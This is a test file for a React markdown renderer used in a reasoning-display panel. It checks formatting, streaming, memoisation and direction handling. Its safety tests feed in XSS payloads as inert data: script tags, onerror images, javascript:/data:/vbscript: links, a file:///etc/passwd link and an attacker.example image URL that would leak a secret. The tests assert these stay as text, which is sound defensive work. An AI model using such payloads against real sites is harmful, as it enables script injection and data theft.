/**
 * Markdown, the styled layer's default renderer (issue 12): every construct,
 * the safety rules (raw HTML as text, only http(s)/mailto links, images never
 * loaded), the streaming rules (no prefix of a text throws, half-typed
 * constructs do not flicker) and memoisation (finished paragraphs never parse again).
 */
import { act, fireEvent, render, screen } from '@testing-library/react'
import fc from 'fast-check'
import { afterEach, describe, expect, it, vi } from 'vitest'
import { ReasoningPanel, ReasoningProvider, ReasoningSummary, markdownText, plainText, type ReasoningPanelProps, type RenderText, type RenderTextInfo } from 'reasoning-ui'
import v8 from 'node:v8'
import vm from 'node:vm'
import { Markdown } from '../../../src/react/text/markdown'
import { parse, type MdNode } from '../../../src/react/text/markdown-parse'
import { content, feed, msgStart, run, span, testStore } from '../../helpers/events'

/** Renders one paragraph of markdown (finished unless `live`). */
function md(text: string, live = false): HTMLElement {
  return render(<Markdown text={text} live={live} />).container
}

/** A streaming panel at `full` with the text `text`, and a way to append to it. */
function panelWith(text: string, props: Partial<ReasoningPanelProps> = {}) {
  const store = testStore()
  feed(store, run(), span('s1'), msgStart('m1'), content('m1', text))
  const ui = () => (
    <ReasoningProvider now={() => store.clock.now}>
      <ReasoningPanel block={store.getState().blocks[0]!} animationDuration={0} {...props} />
    </ReasoningProvider>
  )
  const result = render(ui())
  return {
    ...result,
    append(delta: string) {
      feed(store, content('m1', delta))
      result.rerender(ui())
    },
    text: () => result.container.querySelector('[data-slot="reasoning-text"]') as HTMLElement,
  }
}

/** Elements that would fetch or run something: none may ever come from reasoning text. */
const ACTIVE = 'img, script, iframe, object, embed, link, style, video, audio, source, svg, form, base, meta'

afterEach(() => vi.restoreAllMocks())

describe('constructs', () => {
  it('should render bold, emphasis, inline code and strikethrough', () => {
    const el = md('**bold** and *em* and _also_ and `x < y` and ~~gone~~')
    expect(el.querySelector('strong')).toHaveTextContent('bold')
    expect([...el.querySelectorAll('em')].map((e) => e.textContent)).toEqual(['em', 'also'])
    expect(el.querySelector('code')).toHaveTextContent('x < y')
    expect(el.querySelector('del')).toHaveTextContent('gone')
    expect(el).not.toHaveTextContent('*')
  })

  it('should not take underscores inside words, nor dollar amounts, for markup', () => {
    const el = md('call snake_case_name with $5 and $10')
    expect(el.querySelector('em')).toBeNull()
    expect(el).toHaveTextContent('call snake_case_name with $5 and $10')
  })

  it('should render what follows a lone intraword underscore (snake_case) as markdown still', () => {
    const el = md('call legs_of with **care** and [docs](https://example.com)')
    expect(el.querySelector('em')).toBeNull()
    expect(el.querySelector('strong')).toHaveTextContent('care')
    expect(el.querySelector('a')).toHaveTextContent('docs')
    expect(el).toHaveTextContent('call legs_of with care and docs')
  })

  it('should render a fenced code block with its language, a copy button and the code as it is', () => {
    const el = md('```ts\nconst a = 1\n\nif (a < 2) {}\n```')
    const block = el.querySelector('[data-slot="reasoning-code"]')!
    expect(block.querySelector('[data-slot="reasoning-code-language"]')).toHaveTextContent('ts')
    expect(block.querySelector('pre > code')!.textContent).toBe('const a = 1\n\nif (a < 2) {}')
    expect(screen.getByRole('button', { name: 'Copy code' })).toHaveAttribute('type', 'button')
  })

  it('should render a ~~~ fence as a code block, ``` lines inside it included', () => {
    const el = md('~~~md\n```\n\n**not bold**\n~~~')
    expect(el.querySelectorAll('[data-slot="reasoning-code"]')).toHaveLength(1)
    expect(el.querySelector('[data-slot="reasoning-code-language"]')).toHaveTextContent('md')
    expect(el.querySelector('pre code')!.textContent).toBe('```\n\n**not bold**')
  })

  it('should copy the code and say "Copied" for a moment', async () => {
    vi.useFakeTimers({ toFake: ['setTimeout', 'clearTimeout'] })
    const writeText = vi.fn(() => Promise.resolve())
    vi.stubGlobal('navigator', { ...navigator, clipboard: { writeText } })
    try {
      md('```\nrm -rf build\n```')
      await act(async () => fireEvent.click(screen.getByRole('button', { name: 'Copy code' })))
      expect(writeText).toHaveBeenCalledWith('rm -rf build')
      expect(screen.getByRole('button', { name: 'Copied' })).toHaveAttribute('data-copied', '')
      act(() => vi.advanceTimersByTime(2000))
      expect(screen.getByRole('button', { name: 'Copy code' })).not.toHaveAttribute('data-copied')
    } finally {
      vi.unstubAllGlobals()
      vi.useRealTimers()
    }
  })

  it('should name the copy button with the labels in effect', () => {
    render(
      <ReasoningProvider labels={{ copyCode: 'Code kopieren', copied: 'Kopiert' }}>
        <Markdown text={'```\nx\n```'} />
      </ReasoningProvider>,
    )
    expect(screen.getByRole('button', { name: 'Code kopieren' })).toBeInTheDocument()
  })

  it('should render unordered, ordered, nested and task lists', () => {
    const el = md('- one\n- two\n  - nested\n\n3. three\n4. four\n\n- [x] done\n- [ ] open')
    const lists = el.querySelectorAll(':scope > ul, :scope > ol')
    expect(lists[0]!.tagName).toBe('UL')
    expect(lists[0]!.querySelector(':scope ul li')).toHaveTextContent('nested')
    expect(lists[1]!.tagName).toBe('OL')
    expect(lists[1]).toHaveAttribute('start', '3')
    const boxes = el.querySelectorAll<HTMLInputElement>('input[type="checkbox"]')
    expect([...boxes].map((b) => [b.checked, b.disabled])).toEqual([
      [true, true],
      [false, true],
    ])
  })

  it('should render ATX and setext headings and bold title paragraphs as headings, never as h1–h6', () => {
    const el = md('# Plan\n\n**Counting legs**\n\nA spider has eight.\n\nTotals\n---')
    const headings = el.querySelectorAll('[data-slot="reasoning-heading"]')
    expect([...headings].map((h) => h.textContent)).toEqual(['Plan', 'Counting legs', 'Totals'])
    expect(headings[0]).toHaveAttribute('data-level', '1')
    expect(headings[1]).not.toHaveAttribute('data-level')
    expect(headings[2]).toHaveAttribute('data-level', '2')
    expect(el.querySelector('h1, h2, h3, h4, h5, h6')).toBeNull()
    expect(el).not.toHaveTextContent('**')
  })

  it('given a title with inline markup, should keep the markup in the heading (issue 40)', () => {
    const bold = md('**Checking `parse_args()` handling**').querySelector('[data-slot="reasoning-heading"]')!
    expect(bold.querySelector('code')).toHaveTextContent('parse_args()')
    expect(bold).not.toHaveTextContent('`')
    const atx = md('## Step 2: compute `x`').querySelector('[data-slot="reasoning-heading"]')!
    expect(atx).toHaveAttribute('data-level', '2')
    expect(atx.querySelector('code')).toHaveTextContent('x')
    expect(atx.textContent).toBe('Step 2: compute x')
  })

  it('given a bold line with text on the next line, should keep them one paragraph, as CommonMark does', () => {
    const el = md('**Counting legs**\nA spider has eight.')
    expect(el.querySelector('[data-slot="reasoning-heading"]')).toBeNull()
    expect(el.querySelector('p > strong')).toHaveTextContent('Counting legs')
    expect(el.querySelector('p')!.textContent).toBe('Counting legs\nA spider has eight.')
  })

  it('should render a blockquote, a rule, hard line breaks, and keep soft ones as newlines (the stylesheet shows them)', () => {
    const el = md('> quoted\n> more\n\n---\n\nline one\\\nline two\nline three')
    expect(el.querySelector('blockquote')).toHaveTextContent('quoted')
    expect(el.querySelector('hr')).not.toBeNull()
    expect(el.querySelector(':scope > p:last-child br')).not.toBeNull()
    expect(el.querySelector(':scope > p:last-child')!.textContent).toBe('line oneline two\nline three')
  })

  it('should render a table with a header row, in a box that scrolls sideways', () => {
    const el = md('| Animal | Legs |\n|---|---|\n| spider | **8** |\n| ant | 6 |')
    const box = el.querySelector('[data-slot="reasoning-table"]')!
    expect(box).toHaveAttribute('tabindex', '0')
    expect([...box.querySelectorAll('th')].map((c) => c.textContent)).toEqual(['Animal', 'Legs'])
    expect([...box.querySelectorAll('tbody tr')].map((r) => [...r.children].map((c) => c.textContent))).toEqual([
      ['spider', '8'],
      ['ant', '6'],
    ])
    expect(box.querySelector('td strong')).toHaveTextContent('8')
  })

  it('should render http(s) and mailto links with rel="noopener noreferrer nofollow" in a new tab', () => {
    const el = md('[docs](https://example.com/a?b=1) and [mail](mailto:a@example.com) and https://example.org/raw')
    const links = [...el.querySelectorAll('a')]
    expect(links.map((a) => a.getAttribute('href'))).toEqual(['https://example.com/a?b=1', 'mailto:a@example.com', 'https://example.org/raw'])
    for (const a of links) {
      expect(a).toHaveAttribute('rel', 'noopener noreferrer nofollow')
      expect(a).toHaveAttribute('target', '_blank')
    }
  })
})

describe('safety', () => {
  it('should show raw HTML as text', () => {
    const el = md('<script>alert(1)</script> <b>bold?</b> <img src=x onerror=alert(1)>\n\n<div onclick="x()">block</div>')
    expect(el.querySelector('script, b, img, div')).toBeNull()
    expect(el).toHaveTextContent('<script>alert(1)</script> <b>bold?</b> <img src=x onerror=alert(1)>')
    expect(el).toHaveTextContent('<div onclick="x()">block</div>')
  })

  it.each([
    ['javascript:alert(1)'],
    ['JaVaScRiPt:alert(1)'],
    [' javascript:alert(1)'],
    ['data:text/html,<script>alert(1)</script>'],
    ['vbscript:msgbox(1)'],
    ['//evil.example/x'],
    ['/relative/path'],
    ['file:///etc/passwd'],
    ['https:evil'],
  ])('should not make a link of %s', (href) => {
    const el = md(`[click me](${href})`)
    expect(el.querySelector('a')).toBeNull()
    expect(el).toHaveTextContent('click me')
  })

  it('should never load an image: its alt text and address show as text', () => {
    const fetchSpy = vi.spyOn(globalThis, 'fetch')
    const el = md('Look: ![a secret diagram](https://attacker.example/leak?d=SECRET) and ![](http://x.example/y.png)')
    expect(el.querySelector(ACTIVE)).toBeNull()
    expect(el.querySelector('[data-slot="reasoning-image-alt"]')).toHaveTextContent('a secret diagram')
    expect([...el.querySelectorAll('[data-slot="reasoning-image-url"]')].map((u) => u.textContent)).toEqual([
      'https://attacker.example/leak?d=SECRET',
      'http://x.example/y.png',
    ])
    expect(el.querySelector('a')).toBeNull()
    expect(fetchSpy).not.toHaveBeenCalled()
  })

  it('should keep payloads in code fences, tables and link text as text', () => {
    const el = md('```html\n<script>alert(1)</script>\n```\n\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |\n|---|---|\n| a | b |')
    expect(el.querySelector(ACTIVE)).toBeNull()
    expect(el.querySelector('a')).toBeNull()
    expect(el.querySelector('pre code')).toHaveTextContent('<script>alert(1)</script>')
  })
})

describe('streaming', () => {
  const RICH = [
    '**Counting legs**',
    'A spider has **eight** legs, an ant _six_; see `legs(animal)` and snake_case.',
    '1. first\n2. second\n   - nested [link](https://example.com)',
    '> a quote with ~~strike~~',
    '| a | b |\n|---|---|\n| 1 | 2 |',
    '```py\ndef legs(x):\n\n    return 8\n```',
    '![img](https://example.com/x.png) <b>html</b> [bad](javascript:alert(1)) $5',
    '# Done\n---\n- [x] checked',
  ].join('\n\n')

  it('should render every prefix of a markdown-rich text, live or finished, without throwing or logging', () => {
    const error = vi.spyOn(console, 'error')
    fc.assert(
      fc.property(fc.integer({ min: 0, max: RICH.length }), fc.boolean(), (end, live) => {
        const { unmount } = render(<Markdown text={RICH.slice(0, end)} live={live} />)
        unmount()
      }),
      { numRuns: 300 },
    )
    expect(error).not.toHaveBeenCalled()
  })

  it('should render any text without throwing, and never a block inside a paragraph or a heading', () => {
    const piece = fc.constantFrom('*', '**', '_', '`', '``', '```', '~~~', '[', ']', '(', ')', '!', '|', '-', '>', '#', '# ', '\n', ' ', 'a', '1.', '$', '<', 'http://x', '\\', '\u0000')
    const error = vi.spyOn(console, 'error')
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 40 }), fc.boolean(), (pieces, live) => {
        const { container, unmount } = render(<Markdown text={pieces.join('')} live={live} />)
        // <p> in <p> is no HTML: React warns, and a browser parsing it would split the paragraph.
        expect(container.querySelector('p :is(p, div, ul, ol, li, blockquote, pre, table, hr)')).toBeNull()
        unmount()
      }),
      { numRuns: 500 },
    )
    expect(error).not.toHaveBeenCalled()
  })

  it('given a line of backticks that is no fence (its info string has backticks) after a line of text, should go on with the paragraph after a break', () => {
    // The parser opened a paragraph inside the first one here (hostile.test.tsx found it).
    const error = vi.spyOn(console, 'error')
    for (const [text, html] of [
      ['a\n```b```', '<p>a\n<code dir="ltr">b</code></p>'],
      ['a\n```b```x', '<p>a\n<code dir="ltr">b</code>x</p>'],
      ['``a\n```b```', '<p>``a\n<code dir="ltr">b</code></p>'],
      ['# Plan\n```b```', '<p data-slot="reasoning-heading" data-level="1" dir="auto"><strong>Plan</strong></p><p><code dir="ltr">b</code></p>'],
    ] as const) {
      const { container, unmount } = render(<Markdown text={text} />)
      expect(container.innerHTML, text).toBe(html)
      unmount()
    }
    expect(error).not.toHaveBeenCalled()
  })

  it('should show an unclosed **bold as text until it closes', () => {
    const el = md('The answer is **eig', true)
    expect(el.querySelector('strong')).toBeNull()
    expect(el).toHaveTextContent('The answer is **eig')
    expect(md('The answer is **eight**', true).querySelector('strong')).toHaveTextContent('eight')
  })

  it('should show an unclosed inline code span with every backtick it opened with', () => {
    for (const text of ['``a', 'x ``a b', '``a`', '`a', '``']) expect(md(text, true).textContent, text).toBe(text)
    expect(md('a ``b`` c').querySelector('code')).toHaveTextContent('b')
  })

  it('should show a half-typed link as the text typed so far, and brackets without a URL as text', () => {
    for (const text of ['see [the docs', 'see [the docs]', 'see [the docs](https://exa', 'see ![chart](https://exa']) {
      const el = md(text, true)
      // GitHub's autolinks may link the half-typed address itself, never the label.
      expect([...el.querySelectorAll('a')].map((a) => a.textContent).filter((t) => !t.startsWith('https://')), text).toEqual([])
      expect(el.querySelector('[data-slot="reasoning-image"]'), text).toBeNull()
      expect(el.textContent, text).toBe(text)
    }
    expect(md('see [1] and [2], then arr[0] [done]').textContent).toBe('see [1] and [2], then arr[0] [done]')
    expect(md('see [the docs](https://example.com)', true).querySelector('a')).toHaveTextContent('the docs')
  })

  it('should grow an open code fence as a code block, never as paragraphs', () => {
    for (const text of ['```ts\n', '```ts\nconst a = 1', '```ts\nconst a = 1\n\nconst b', '```ts\nconst a = 1\n\nconst b = 2\n```']) {
      const el = md(text, true)
      expect(el.querySelector(':scope > p'), text).toBeNull()
      expect(el.querySelector('[data-slot="reasoning-code-language"]'), text).toHaveTextContent('ts')
    }
  })

  it('should make a bold title a heading only once it is the whole paragraph', () => {
    expect(md('**Counting le', true).querySelector('[data-slot="reasoning-heading"]')).toBeNull()
    expect(md('**Counting legs**', true).querySelector('[data-slot="reasoning-heading"]')).toHaveTextContent('Counting legs')
    expect(md('**Counting legs** and more', true).querySelector('[data-slot="reasoning-heading"]')).toBeNull()
  })

  it('given backticks at the end of a line of code, should keep them as code, as CommonMark does, and lose no character', () => {
    // A closing fence is a line of its own: `print(1)` and the backticks on one line close nothing.
    expect(md('```py\nprint(1)```').querySelector('code')!.textContent).toBe('print(1)```')
    const after = md('```py\nprint(1)```\nThen the output.')
    expect(after.querySelector('code')!.textContent).toBe('print(1)```\nThen the output.')
    fc.assert(
      fc.property(fc.array(fc.stringMatching(/^[a-z0-9()=+;.,'"][a-z0-9 ()=+;.,'"]{0,11}$/), { minLength: 1, maxLength: 5 }), fc.constantFrom('', 'py', 'js'), fc.boolean(), (lines, language, live) => {
        const { container, unmount } = render(<Markdown text={'```' + language + '\n' + lines.join('\n') + '\n```'} live={live} />)
        expect(container.querySelector('code')!.textContent).toBe(lines.join('\n'))
        unmount()
      }),
      { numRuns: 200 },
    )
  })

  it('should keep a streaming code block one block across blank lines in a panel', () => {
    const panel = panelWith('Try:\n\n```js\nconst a = 1\n\n')
    panel.append('const b = 2\n```\n\nDone')
    const blocks = panel.text().querySelectorAll('[data-slot="reasoning-code"]')
    expect(blocks).toHaveLength(1)
    expect(blocks[0]!.querySelector('code')!.textContent).toBe('const a = 1\n\nconst b = 2')
  })
})

describe('memoisation', () => {
  it('should never render (so never parse) a finished paragraph again while the live one streams', () => {
    const renderText = vi.fn((text: string, info: RenderTextInfo) => markdownText(text, info))
    const panel = panelWith('**Plan**\n\nFirst *we* count.\n\nThen', { renderText })
    const rendered = () => renderText.mock.calls.map(([text, info]) => [text, info.live])
    expect(rendered()).toEqual([
      ['**Plan**', false],
      ['First *we* count.', false],
      ['Then', true],
    ])
    renderText.mockClear()
    panel.append(' we **add**')
    panel.append(' them up.')
    expect(rendered()).toEqual([
      ['Then we **add**', true],
      ['Then we **add** them up.', true],
    ])
    expect(panel.text().querySelector('em')).toHaveTextContent('we')
    expect(panel.text().querySelectorAll('strong')[1]).toHaveTextContent('add')
  })

  it('should keep the DOM of finished paragraphs under the default renderer while the live one streams', () => {
    const panel = panelWith('First *we* count.\n\nThen')
    const first = panel.text().querySelector('em')
    panel.append(' more')
    panel.append('\n\nAnd a third')
    expect(panel.text().querySelector('em')).toBe(first)
  })
})

describe('renderers', () => {
  it('plainText should show the text as it is, asterisks included, with a bold title line as bold', () => {
    const panel = panelWith('**Plan**\n\nA **bold** move <b>x</b>\n\nlast', { renderText: plainText })
    const paragraphs = panel.text().querySelectorAll('[data-slot="reasoning-paragraph"]')
    expect(paragraphs[0]!.querySelector('strong')).toHaveTextContent('Plan')
    expect(paragraphs[1]!.textContent).toBe('A **bold** move <b>x</b>')
    expect(panel.text().querySelector('b, em')).toBeNull()
  })

  it('markdownText passed explicitly should render as the default does', () => {
    const a = panelWith('A **b**\n\n# H\n\nc', { renderText: markdownText }).text().innerHTML
    const b = panelWith('A **b**\n\n# H\n\nc').text().innerHTML
    expect(a).toBe(b)
  })

  it('renderText should still replace the renderer', () => {
    const renderText: RenderText = (text) => <span data-testid="mine">{text.toUpperCase()}</span>
    const panel = panelWith('a **b**\n\nc', { renderText })
    expect([...panel.text().querySelectorAll('[data-testid="mine"]')].map((e) => e.textContent)).toEqual(['A **B**', 'C'])
  })

  it('should render a provider summary as markdown too', () => {
    const store = testStore()
    feed(store, run(), span('s1'), msgStart('m1'), content('m1', 'text'))
    const blk = store.getState().blocks[0]!
    const withSummary = { ...blk, messages: [...blk.messages, { ...blk.messages[0]!, id: 'sum', kind: 'summary' as const, text: '**Counting**\n\nThe *spider* has `8`' }] }
    const { container } = render(<ReasoningSummary block={withSummary} />)
    const summary = container.querySelector('[data-slot="reasoning-summary"]')!
    expect(summary).toHaveAttribute('data-source', 'provider')
    expect(summary.querySelector('[data-slot="reasoning-heading"]')).toHaveTextContent('Counting')
    expect(summary.querySelector('em')).toHaveTextContent('spider')
    expect(summary.querySelector('code')).toHaveTextContent('8')
  })
})

describe('headless parts', () => {
  it('given no renderer, should show the text as it is (the parts stay renderer-free); the styled panel renders markdown', async () => {
    const { Reasoning, ReasoningText } = await import('reasoning-ui')
    const store = testStore()
    feed(store, run(), span('s'), msgStart('m'), content('m', 'Some *emphasis* here'))
    const block = store.getState().blocks[0]!
    const headless = render(
      <Reasoning block={block} defaultOpen>
        <ReasoningText />
      </Reasoning>,
    )
    expect(headless.container).toHaveTextContent('Some *emphasis* here')
    expect(headless.container.querySelector('em')).toBeNull()
    headless.unmount()
    const styled = render(<ReasoningPanel block={block} defaultOpen animationDuration={0} />)
    expect(styled.container.querySelector('em')).toHaveTextContent('emphasis')
  })
})

describe('direction', () => {
  const RICH = [
    '**Checking the order**',
    '',
    'Is the list in order?',
    '',
    '- first item?',
    '1. numbered item?',
    '',
    '> quoted?',
    '',
    '| a | b |',
    '| --- | --- |',
    '| cell? | c |',
    '',
    '```ts',
    'const a = b;',
    '```',
  ].join('\n')

  it('given a markdown-rich text, should give each paragraph, heading, table and cell dir="auto", its other blocks its direction, and code dir="ltr"', () => {
    const { text } = panelWith(RICH, { defaultOpen: true })
    const root = text()
    const blocks = root.querySelectorAll('[data-slot="reasoning-paragraph"], [data-slot="reasoning-heading"], table, th, td')
    expect(blocks.length).toBeGreaterThanOrEqual(12)
    for (const element of blocks) expect(element, element.outerHTML).toHaveAttribute('dir', 'auto')
    // Lists, quotes and their paragraphs inherit the paragraph's: with a `dir` of their own, its `auto` would skip their text.
    expect(root.querySelectorAll('[data-format="markdown"] :is(p:not([data-slot]), ul, ol, li, blockquote)[dir]')).toHaveLength(0)
    expect(root.querySelector('[data-slot="reasoning-code"]')).toHaveAttribute('dir', 'ltr')
    for (const code of root.querySelectorAll(':not(pre) > code')) expect(code).toHaveAttribute('dir', 'ltr')
  })

  it('given the plain-text renderer, should give every paragraph dir="auto"', () => {
    const { text } = panelWith('**A title**\n\nAnd next week?\n\nلماذا؟', { defaultOpen: true, renderText: plainText })
    const paragraphs = text().querySelectorAll('[data-slot="reasoning-paragraph"]')
    expect(paragraphs).toHaveLength(3)
    for (const p of paragraphs) expect(p).toHaveAttribute('dir', 'auto')
  })
})

describe('memory', () => {
  it('given a long paragraph, its parsed text should take about its own size, not a chain of one-character strings', () => {
    v8.setFlagsFromString('--expose-gc')
    const gc = vm.runInNewContext('gc') as () => void
    const paragraph = 'The running total *still* holds after the change, and `sum()` agrees. '.repeat(3_000)
    // What a rendered paragraph keeps is its text nodes' strings (React's props), not the tree.
    const leaves = (nodes: readonly MdNode[]): string[] => nodes.flatMap((n) => (typeof n === 'string' ? [n] : 'children' in n ? leaves(n.children) : []))
    gc()
    const before = process.memoryUsage().heapUsed
    const kept = Array.from({ length: 5 }, (_, i) => leaves(parse(`${i} ${paragraph}`)))
    gc()
    const bytes = process.memoryUsage().heapUsed - before
    expect(kept[4]!.join('')).toContain('The running total still holds')
    // The parser gives its text a character at a time: joined with +=, the leaves took about 17
    // bytes a character here (chains of one-character strings); joined once, about 9, for the
    // parser builds a node's text with += too and a join of that one piece is that chain; as
    // strings of their own, about 3.7 (the rest is each leaf's header and the arrays that hold them).
    expect(bytes).toBeLessThan(5 * 5 * paragraph.length)
  })
})
